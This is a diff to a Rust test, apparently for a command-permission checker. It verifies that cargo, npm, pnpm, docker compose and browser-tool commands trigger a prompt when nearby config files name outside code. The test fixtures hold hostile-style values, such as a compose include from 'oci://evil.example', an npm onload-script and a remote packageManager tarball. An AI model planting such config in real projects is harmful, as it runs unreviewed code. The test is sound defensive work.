@@ -95,8 +95,10 @@ fn toolchains_and_package_managers_are_asked_about_where_a_file_names_code() {
     let folder = folder.to_str().unwrap();
     let rust = ["cargo --version", "cargo tree --offline", "cargo metadata --no-deps", "rustc --version"];
     let node = ["npm ls", "pnpm ls", "pnpm --version", "npm outdated"];
+    let compose = ["docker compose ps", "docker compose logs web"];
+    let browser = ["agent-browser snapshot", "playwright-cli snapshot"];
     let any = ["node --version", "python3 --version", "jq . a.json"];
-    assert!([&rust[..], &node, &any].concat().iter().all(|text| !is_asked(text, folder)));
+    assert!([&rust[..], &node, &compose, &browser, &any].concat().iter().all(|text| !is_asked(text, folder)));
     for (file, content, texts) in [
         ("rust-toolchain.toml", "[toolchain]\npath = \"/x\"\n", &rust[..]),
         ("part/rust-toolchain", "[toolchain]\npath = \"/x\"\n", &rust),
@@ -104,6 +106,8 @@ fn toolchains_and_package_managers_are_asked_about_where_a_file_names_code() {
         ("part/.pnpmfile.cjs", "", &node),
         (".npmrc", "onload-script=x.js\n", &node),
         ("package.json", "{\"packageManager\":\"pnpm@https://x.example/a.tgz\"}", &node),
+        ("part/compose.yml", "include:\n  - oci://evil.example/x\n", &compose),
+        ("part/agent-browser.json", "{\"executablePath\":\"./x\"}", &browser),
         (".tool-versions", "nodejs path:./x\n", &any),
     ] {
         write(scratch.path().join(file), content).unwrap();
